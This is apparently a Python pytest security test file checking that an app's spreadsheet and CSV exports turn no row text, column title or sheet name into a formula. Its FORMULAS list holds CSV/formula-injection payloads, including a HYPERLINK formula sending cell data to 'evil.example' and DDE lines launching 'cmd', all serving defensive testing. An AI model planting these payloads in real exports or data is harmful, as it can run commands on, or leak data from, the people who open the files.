"""What a spreadsheet would run: no text of a row, a title or a name becomes a formula."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from exportapp import Column
from exportapp.jobs import lifecycle
from exportapp.jobs.files import local_path
from exportapp.jobs.work import work
from exportapp.tables.selection import Selection
from exportapp.xlsx import sheet_title
from project.shop.admin import OrderAdmin
from project.shop.loading import seed_shop
from project.shop.models import Order
from tests.security.conftest import seen_by

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    " =1+1",
    '"=1+1',
    '";=1+1;"',
    ",=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"x")',
)
STARTS = re.compile(r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


@pytest.fixture
def export(clerk, monkeypatch):
    """An export of rows, titles and a sheet that are all formulas, as the bytes of its file."""
    seed_shop(len(FORMULAS), seed=1)
    for order, text in zip(Order.objects.order_by("pk"), FORMULAS, strict=True):
        Order.objects.filter(pk=order.pk).update(note=text)
    columns = [Column("note", title=text) for text in FORMULAS]
    monkeypatch.setattr(OrderAdmin, "export_columns", columns, raising=False)
    monkeypatch.setattr(Order._meta, "verbose_name_plural", "=1+1|cmd")

    def make(**options):
        selection = Selection(source="shop.Order")
        job, _new = lifecycle.create(selection, seen_by(clerk), options=options, queue=False)
        work(job.pk)
        job.refresh_from_db()
        assert job.can_download, job.error
        return local_path(job.files.get().path).read_bytes()

    return make


@pytest.mark.parametrize("strings", ["inline", "auto", "shared"])
def test_a_workbook_has_no_formula(strings, export):
    with zipfile.ZipFile(io.BytesIO(export(strings=strings))) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if "xml" in name}
    for name, text in parts.items():
        assert not re.search(r"<f[ >]|t=\"str\"|<ddeLink|<oleLink|externalLink", text), name
        assert "<definedName" not in text or "cmd|" not in text.partition("<definedName")[2], name
    sheet = next(text for name, text in parts.items() if "worksheets/sheet" in name)
    kinds = {"inline": {"inlineStr"}}.get(strings, {"inlineStr", "s"})
    assert set(re.findall(r' t="(\w+)"', sheet)) <= kinds | {"inlineStr"}
    assert not any('Target="http' in text for text in parts.values())


def test_a_csv_has_no_formula_unless_it_is_asked_for(export):
    for delimiter in (",", ";", "\t", "|"):
        data = export(format="csv", delimiter=delimiter)
        rows = list(
            csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
        )
        cells = [cell for row in rows for cell in row]
        assert len(rows) == len(FORMULAS) + 1 and len(cells) == len(rows) * len(FORMULAS)
        assert [cell for cell in cells if STARTS.match(cell)] == []
    kept = export(format="csv", formulas="keep").decode("utf-8-sig")
    assert FORMULAS[2] in kept


def test_the_title_of_a_sheet_is_none():
    for text in (*FORMULAS, "'=1+1'!A1", "[evil.xlsx]Sheet1", "A1:B2"):
        title = sheet_title(text, ())
        assert not set("[]:*?/\\") & set(title)
        assert title == title.strip("'") and len(title) <= 31
